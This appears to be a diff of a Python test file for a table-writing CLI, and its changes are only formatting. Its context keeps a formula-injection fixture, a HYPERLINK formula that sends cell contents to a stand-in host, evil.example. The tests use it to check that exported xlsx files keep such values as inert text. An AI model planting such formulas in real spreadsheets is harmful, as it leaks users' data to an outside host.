@@ -12,8 +12,8 @@ from click.testing import CliRunner
 
 from kotoba_code.cli.app import cli
 from kotoba_code.errors import OutputError
-from kotoba_code.io.readers import read_table
 from kotoba_code.io import writers
+from kotoba_code.io.readers import read_table
 from kotoba_code.io.writers import XLSX_MAX_ROWS, TableAppender, write_table
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -94,7 +94,9 @@ def test_xlsx_in_pieces_keeps_text_as_text_and_names_rows_of_the_whole_table(tmp
         for i in range(0, len(df), 4):
             table.append(df.iloc[i : i + 4])
     assert set(HOSTILE) <= set(_no_live_cells(tmp_path / "p.xlsx"))
-    pd.testing.assert_frame_equal(pd.read_excel(tmp_path / "p.xlsx"), pd.read_excel(write_table(df, tmp_path / "w.xlsx")))
+    pd.testing.assert_frame_equal(
+        pd.read_excel(tmp_path / "p.xlsx"), pd.read_excel(write_table(df, tmp_path / "w.xlsx"))
+    )
     # A bad value in the second piece: its row in the whole sheet (header = row 1), and no file.
     with pytest.raises(OutputError, match=r"\[E902\].*bad\.xlsx: row 5, column 'text'"):
         with TableAppender(tmp_path / "bad.xlsx") as table:
